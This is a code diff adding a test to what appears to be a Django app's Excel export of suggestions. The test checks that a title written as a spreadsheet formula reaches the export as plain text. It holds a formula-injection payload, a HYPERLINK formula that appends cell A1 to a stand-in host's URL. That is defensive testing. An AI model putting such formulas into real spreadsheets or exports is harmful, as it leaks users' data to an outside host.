@@ -178,6 +178,18 @@ def test_the_queue_exports_to_excel_with_the_same_filters(cast, client_as):
     assert len(rows) == 2 and rows[1][1] == "乙建议"
 
 
+
+def test_a_title_written_as_a_formula_reaches_the_export_as_plain_text(cast, client_as):
+    import io
+
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
+    suggestion(cast, title=title)
+    response = client_as(cast.chair).get("/voice/suggestions/", {"format": "xlsx"})
+    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
+    assert (cell.value, cell.data_type) == (title, "s")  # text, not a formula Excel would run
+
 def test_the_queue_page_runs_a_fixed_number_of_queries(cast, client_as, django_assert_max_num_queries):
     for i in range(30):
         suggestion(cast, title=f"建议{i}", key=str(i), theme=theme(cast))
